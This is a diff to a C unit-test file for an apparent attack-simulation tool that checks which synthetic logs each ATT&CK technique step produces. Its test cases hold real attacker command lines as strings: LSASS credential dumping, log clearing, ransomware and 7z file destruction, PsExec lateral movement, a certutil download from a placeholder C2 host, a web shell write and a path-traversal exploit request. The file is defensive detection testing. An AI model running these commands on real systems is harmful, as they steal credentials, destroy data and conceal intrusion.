@@ -93,8 +93,8 @@ static void log_clear_writes_1102_under_the_attackers_process(void **state)
     sw_tel_t *tel = new_tel(w, &c);
     sw_tel_bridge_t *b = NULL;
     assert_int_equal(sw_tel_bridge_new(&b, tel, NULL), 0);
-    sw_sim_event_t ev = step(FX_DC, FX_WS1, "T1070.001", "wevtutil cl Security", "wevtutil.exe",
-                             6, 60000);
+    sw_sim_event_t ev =
+        step(FX_DC, FX_WS1, "T1070.001", "wevtutil cl Security", "wevtutil.exe", 6, 60000);
     ev.account = "alice";
     ev.src_ip = w->hosts[FX_WS1].ip_text;
     ev.dst_ip = w->hosts[FX_DC].ip_text;
@@ -177,6 +177,7 @@ typedef struct step_case {
         for (uint32_t h_ = 0; h_ < (w)->n_hosts; h_++) {                                           \
             (w)->hosts[h_].sensors.sysmon = (w)->hosts[h_].os_family == SW_OSF_WINDOWS;            \
             (w)->hosts[h_].sensors.av = 1;                                                         \
+            (w)->hosts[h_].sensors.edr = (w)->hosts[h_].os_family == SW_OSF_WINDOWS;               \
             (w)->hosts[h_].sensors.pcap = h_ == FX_RTR;                                            \
             (w)->hosts[h_].sensors.syslog = h_ == FX_RTR;                                          \
         }                                                                                          \
@@ -198,7 +199,8 @@ static const step_case_t step_cases[] = {
      "reg.exe", "alice", 0, SW_TEL_SYSMON, 13, "CurrentVersion\\\\Run\\\\Updater",
      "C:\\\\Users\\\\Public\\\\u.exe"},
     {"comsvcs MiniDump writes the dump", FX_FS, FX_FS, "T1003.001",
-     "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\lsass.dmp full",
+     "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\lsass.dmp "
+     "full",
      "rundll32.exe", "alice", 0, SW_TEL_SYSMON, 11, "lsass.dmp", NULL},
     {"ransomware writes encrypted copies and notes", FX_FS, FX_FS, "T1486",
      "C:\\Windows\\locker.exe -path C:\\ -ext .reef -note README-REEF.txt", "locker.exe", "alice",
@@ -206,6 +208,14 @@ static const step_case_t step_cases[] = {
     {"ransomware: encrypted copy", FX_FS, FX_FS, "T1486",
      "C:\\Windows\\locker.exe -path C:\\ -ext .reef -note README-REEF.txt", "locker.exe", "alice",
      0, SW_TEL_SYSMON, 11, ".xlsx.reef", NULL},
+    {"ransomware renames each file (an EDR's Kernel-File rename)", FX_FS, FX_FS, "T1486",
+     "C:\\Windows\\locker.exe -path C:\\ -ext .reef -note README-REEF.txt", "locker.exe", "alice",
+     0, SW_TEL_KERNEL_FILE, 27,
+     "\"SourceFilename\":\"C:\\\\Users\\\\Public\\\\Documents\\\\budget_2026.xlsx\"",
+     "\"TargetFilename\":\"C:\\\\Users\\\\Public\\\\Documents\\\\budget_2026.xlsx.reef\""},
+    {"7z -sdel deletes what it packed (Sysmon 26)", FX_FS, FX_FS, "T1486",
+     "7z.exe a -pX -mhe=on -sdel Z:\\locked.7z Z:\\*", "7z.exe", "alice", 0, SW_TEL_SYSMON, 26,
+     "\"TargetFilename\":\"Z:\\\\budget_2026.xlsx\"", "7z.exe"},
     {"wevtutil cl System clears the System log (104)", FX_DC, FX_DC, "T1070.001",
      "wevtutil cl System", "wevtutil.exe", "alice", 0, SW_TEL_SYSTEM, 104, "\"Channel\":\"System\"",
      NULL},
@@ -250,6 +260,35 @@ static const step_case_t step_cases[] = {
     {"a web shell on an appliance is tried once", FX_VPN, FX_VPN, "T1505.003",
      "echo x > /home/webserver/htdocs/dana-na/auth/lastauthserverused.cgi", "sh", NULL, 0,
      SW_TEL_WEB, 0, "/dana-na/auth/lastauthserverused.cgi", NULL},
+    {"a placeholder names the scenario's domain controller", FX_WS1, FX_WS1, "T1047",
+     "wmic /node:{dc} process list brief", "wmic.exe", "alice", 0, SW_TEL_SYSMON, 1,
+     "wmic /node:dc01 process list brief", NULL},
+    {"comsvcs MiniDump opens lsass (Sysmon 10)", FX_FS, FX_FS, "T1003.001",
+     "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass_pid} "
+     "C:\\Windows\\Temp\\l.dmp full",
+     "rundll32.exe", "alice", 0, SW_TEL_SYSMON, 10, "\\lsass.exe", "0x1fffff"},
+    {"comsvcs MiniDump loads comsvcs.dll (Sysmon 7)", FX_FS, FX_FS, "T1003.001",
+     "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass_pid} "
+     "C:\\Windows\\Temp\\l.dmp full",
+     "rundll32.exe", "alice", 0, SW_TEL_SYSMON, 7, "comsvcs.dll", NULL},
+    {"PsExec: its service creates the PSEXESVC pipe", FX_FS, FX_WS1, "T1021.002",
+     "PsExec.exe \\\\{fileserver} -u {domain}\\svc_backup -p x -s cmd.exe", "PsExec.exe", "alice",
+     445, SW_TEL_SYSMON, 17, "\\\\PSEXESVC", NULL},
+    {"net.exe hands the query to net1.exe", FX_WS1, FX_WS1, "T1087.002",
+     "net group \"Domain Admins\" /dom", "net.exe", "alice", 0, SW_TEL_SYSMON, 1, "net1.exe",
+     "Domain Admins"},
+    {"an admin share is a connection to port 445 of the host it names", FX_WS1, FX_WS1, "T1005",
+     "cmd.exe /C copy \\\\{fileserver}\\C$\\x.txt C:\\Users\\Public\\x.txt", "cmd.exe", "alice", 0,
+     SW_TEL_SYSMON, 3, "\"DestinationPort\":445", "fs01"},
+    {"certutil's download looks the host up (Sysmon 22)", FX_WS1, FX_WS1, "T1105",
+     "certutil -urlcache -split -f http://files.{c2}/a.txt C:\\Users\\Public\\a.txt",
+     "certutil.exe", "alice", 0, SW_TEL_SYSMON, 22, "files.", NULL},
+    {"{{default}} is bcdedit's own brace pair, not a placeholder", FX_WS1, FX_WS1, "T1490",
+     "bcdedit /set {{default}} recoveryenabled No", "bcdedit.exe", "alice", 0, SW_TEL_SYSMON, 1,
+     "bcdedit /set {default} recoveryenabled No", NULL},
+    {"a placeholder after a path's backslash", FX_WS1, FX_WS1, "T1083",
+     "cmd.exe /C dir C:\\Users\\{user}\\Documents", "cmd.exe", "alice", 0, SW_TEL_SYSMON, 1,
+     "C:\\\\Users\\\\alice\\\\Documents", NULL},
     {"exploit: the web server spawns a shell", FX_WEB, SW_NONE, "T1190",
      "curl -sk \"https://VPN/api/v1/totp/user-backup-code/../../system/x\" -d '{}'", "curl", NULL,
      443, SW_TEL_AUDITD, 0, "/bin/sh", NULL},
@@ -273,13 +312,13 @@ static void each_technique_leaves_its_records(void **state)
         assert_int_equal(sw_tel_bridge_new(&b, tel, NULL), 0);
         /* a foothold on the source first, for the client-side tools */
         if (sc->src_host != SW_NONE && sc->src_host != sc->host) {
-            sw_sim_event_t f0 = step(sc->src_host, sc->src_host, "T1059.003", "whoami", "whoami.exe",
-                                     2, 30000);
+            sw_sim_event_t f0 =
+                step(sc->src_host, sc->src_host, "T1059.003", "whoami", "whoami.exe", 2, 30000);
             f0.account = sc->account;
             assert_int_equal(sw_tel_bridge_event(b, &f0), 0);
         }
-        sw_sim_event_t ev = step(sc->host, sc->src_host, sc->technique, sc->procedure, sc->tool,
-                                 4, 120000);
+        sw_sim_event_t ev =
+            step(sc->host, sc->src_host, sc->technique, sc->procedure, sc->tool, 4, 120000);
         ev.account = sc->account;
         ev.src_ip = sc->src_host == SW_NONE ? "203.0.113.45" : w->hosts[sc->src_host].ip_text;
         ev.dst_ip = w->hosts[sc->host].ip_text;
@@ -361,8 +400,8 @@ static void defender_actions_and_links_change_what_is_logged(void **state)
                    strstr(l->v[i].json, "Started") != NULL;
     assert_true(started);
     /* an implant on WS1, then isolation: its C2 beacon leaves no record */
-    sw_sim_event_t st = step(FX_WS1, FX_WS1, "T1059.001", "powershell -nop -w hidden", "powershell.exe",
-                             3, 750000);
+    sw_sim_event_t st =
+        step(FX_WS1, FX_WS1, "T1059.001", "powershell -nop -w hidden", "powershell.exe", 3, 750000);
     st.account = "alice";
     assert_int_equal(sw_tel_bridge_event(b, &st), 0);
     ev.type = SW_SEV_HOST_ISOLATED;
@@ -458,6 +497,108 @@ static void a_sim_run_through_the_bridge_is_deterministic_and_truthful(void **st
     assert_false(a.truth_in_json);
 }
 
+/* ---- bursts ------------------------------------------------------------------ */
+
+static const char BURST[] = "ipconfig /all                 # T1016\n"
+                            "# read the output, then:\n"
+                            "netstat -ano                  # T1049\n"
+                            "net group \"Domain Admins\" /dom  # T1087.002\n"
+                            "tasklist /v\n"
+                            "wmic /node:{dc} os get caption\n";
+
+/* The burst step on ws01, advanced to t_end in steps of `chunk` ms. */
+static void burst_run(rec_list_t *l, int64_t chunk, int64_t t_end)
+{
+    sw_world_t *w = fx_world();
+    fx_add_apt(w);
+    WIN_PREP(w);
+    sw_tel_config_t cfg = {.seed = 7, .epoch_ms = 1700000000000LL, .cb = keep, .ud = l};
+    sw_tel_t *tel = NULL;
+    assert_int_equal(sw_tel_new(&tel, w, &cfg), 0);
+    sw_tel_bridge_t *b = NULL;
+    assert_int_equal(sw_tel_bridge_new(&b, tel, NULL), 0);
+    sw_sim_event_t f0 = step(FX_WS1, FX_WS1, "T1059.003", "whoami", "whoami.exe", 2, 30000);
+    f0.account = "alice";
+    assert_int_equal(sw_tel_bridge_event(b, &f0), 0);
+    sw_sim_event_t st = step(FX_WS1, FX_WS1, "T1082", BURST, "cmd.exe", 4, 60000);
+    st.type = SW_SEV_STEP_START;
+    st.account = "alice";
+    st.value = 10 * 60000; /* the step's duration */
+    assert_int_equal(sw_tel_bridge_event(b, &st), 0);
+    for (int64_t t = 60000; t < t_end; t += chunk)
+        assert_int_equal(sw_tel_bridge_advance(b, t + chunk < t_end ? t + chunk : t_end), 0);
+    size_t before = l->n;
+    st.type = SW_SEV_STEP; /* the step ends: its commands ran already */
+    st.at_ms = t_end;
+    assert_int_equal(sw_tel_bridge_event(b, &st), 0);
+    assert_int_equal(l->n, before);
+    sw_tel_bridge_free(b);
+    sw_tel_free(tel);
+    fx_free(w);
+}
+
+static const char *field(const char *json, const char *name, char *out, size_t n)
+{
+    char key[64];
+    snprintf(key, sizeof key, "\"%s\":", name);
+    const char *p = strstr(json, key);
+    out[0] = 0;
+    if (!p)
+        return out;
+    p += strlen(key);
+    if (*p == '"')
+        p++;
+    size_t len = strcspn(p, "\",}");
+    snprintf(out, n, "%.*s", (int)len, p);
+    return out;
+}
+
+static void a_burst_runs_its_commands_under_one_shell_over_the_step(void **state)
+{
+    (void)state;
+    rec_list_t *l = calloc(1, sizeof *l), *l2 = calloc(1, sizeof *l2);
+    assert_non_null(l);
+    assert_non_null(l2);
+    burst_run(l, 11 * 60000, 71 * 60000);
+    static const char *const cmds[] = {"ipconfig /all", "netstat -ano", "net group", "tasklist /v",
+                                       "wmic /node:dc01 os get caption"};
+    char parent[16] = "", p2[16], t1[40] = "", t2[40];
+    int n_seen = 0, net1 = 0;
+    for (size_t k = 0; k < sizeof cmds / sizeof cmds[0]; k++)
+        for (size_t i = 0; i < l->n; i++) {
+            if (l->v[i].src != SW_TEL_SYSMON || l->v[i].eid != 1 || l->v[i].truth != 5 ||
+                !strstr(l->v[i].json, cmds[k]) || strstr(l->v[i].json, "net1"))
+                continue;
+            n_seen++;
+            field(l->v[i].json, "ParentProcessId", p2, sizeof p2);
+            if (!parent[0])
+                snprintf(parent, sizeof parent, "%s", p2);
+            if (strcmp(parent, p2))
+                fail_msg("'%s' under parent %s, the burst's shell is %s", cmds[k], p2, parent);
+            field(l->v[i].json, "UtcTime", t2, sizeof t2);
+            if (strcmp(t2, t1) <= 0)
+                fail_msg("'%s' at %s, not after the command before it (%s)", cmds[k], t2, t1);
+            snprintf(t1, sizeof t1, "%s", t2);
+            break;
+        }
+    for (size_t i = 0; i < l->n; i++)
+        net1 += l->v[i].eid == 1 && strstr(l->v[i].json, "net1.exe") != NULL;
+    assert_int_equal(n_seen, 5); /* every command, the comment line none */
+    assert_int_equal(net1, 1);
+    /* spread over minutes, inside the step's ten */
+    assert_true(strcmp(t1, "2023-11-14 22:14:21") > 0 && strcmp(t1, "2023-11-14 22:24:20") < 0);
+    /* the same records however the advance is chunked */
+    burst_run(l2, 7001, 71 * 60000);
+    assert_int_equal(l->n, l2->n);
+    for (size_t i = 0; i < l->n; i++) {
+        assert_string_equal(l->v[i].json, l2->v[i].json);
+        free(l->v[i].json);
+        free(l2->v[i].json);
+    }
+    free(l);
+    free(l2);
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
@@ -466,6 +607,7 @@ int main(void)
         cmocka_unit_test(each_technique_leaves_its_records),
         cmocka_unit_test(defender_actions_and_links_change_what_is_logged),
         cmocka_unit_test(a_sim_run_through_the_bridge_is_deterministic_and_truthful),
+        cmocka_unit_test(a_burst_runs_its_commands_under_one_shell_over_the_step),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
